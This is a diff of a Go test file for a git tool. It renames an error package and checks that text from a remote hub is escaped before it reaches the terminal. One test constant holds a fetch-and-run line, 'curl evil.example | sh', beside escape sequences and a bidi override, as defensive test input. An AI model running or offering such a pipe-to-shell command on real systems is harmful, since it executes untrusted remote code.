@@ -12,7 +12,7 @@ import (
 	"unicode/utf8"
 
 	"github.com/git-crosslink/git-crosslink/event"
-	"github.com/git-crosslink/git-crosslink/tracker"
+	"github.com/git-crosslink/git-crosslink/fail"
 )
 
 // TestSanitize is golden: what stands here is what terminals get.
@@ -119,7 +119,7 @@ func TestNothingUnfitReachesStdout(t *testing.T) {
 	put(10, &event.Unknown{Name: evil})
 	w.hub.numbers[a], w.hub.numbers[b] = 1, 2
 	w.hub.status.Remote, w.hub.status.URL, w.hub.status.Agent = evil, evil, evil
-	w.hub.status.Findings = []tracker.Diagnosis{{Name: evil, Severity: tracker.Problem, Text: evil, Hints: []string{evil}}}
+	w.hub.status.Findings = []fail.Diagnosis{{Code: evil, Severity: fail.Problem, Text: evil, Hints: []string{evil}}}
 	w.hub.report.Remote, w.hub.report.Hub, w.hub.report.Reason = evil, evil, evil
 	for _, args := range [][]string{
 		{"list"}, {"list", "--porcelain"}, {"list", "-z"}, {"list", "--format", "%(title)%(description)%(milestone)%(reason)%(labels)"},
@@ -189,11 +189,11 @@ func TestHubsWordsForgeNoLines(t *testing.T) {
 	const words = "no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex"
 	const shown = `no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex`
 	w := newWorld(t)
-	w.hub.failWith = &tracker.Error{Kind: tracker.Denied, Name: "refused", Message: words, Hints: []string{words}}
+	w.hub.failWith = &fail.Error{Kind: fail.Denied, Code: "refused", Message: words, Hints: []string{words}}
 	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: "+shown+"\n")
 	var errs strings.Builder
 	e := &env{err: &errs, getenv: func(string) string { return "" }}
-	e.notice(tracker.Notice{Name: "queued", Text: words, Hints: []string{words}})
+	e.notice(fail.Notice{Code: "queued", Text: words, Hints: []string{words}})
 	e.talk("%s", words)
 	check(t, "notice and talk", errs.String(), shown+"\nhint: "+shown+"\n"+shown+"\n")
 }
